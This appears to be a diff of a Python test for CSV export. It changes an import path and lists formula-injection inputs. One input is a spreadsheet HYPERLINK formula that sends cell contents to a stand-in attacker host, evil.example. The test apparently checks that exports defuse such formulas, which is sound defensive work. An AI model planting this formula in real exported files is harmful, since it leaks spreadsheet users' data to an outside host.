@@ -11,7 +11,7 @@ from app.http.timefmt import now_ms
 from app.reports.csvexport import csv_text
 from ingest.writer import BatchWriter
 from tests.app.conftest import auth
-from tests.app.test_tickets import _ev
+from tests.app.tickets.test_routes import _ev
 
 FORMULAS = ("=1+1", "+1+1", "-2+3", "@SUM(A1:A9)", '=HYPERLINK("http://evil.example/?"&A1,"klik")', "\t=1", "\r=1")
 
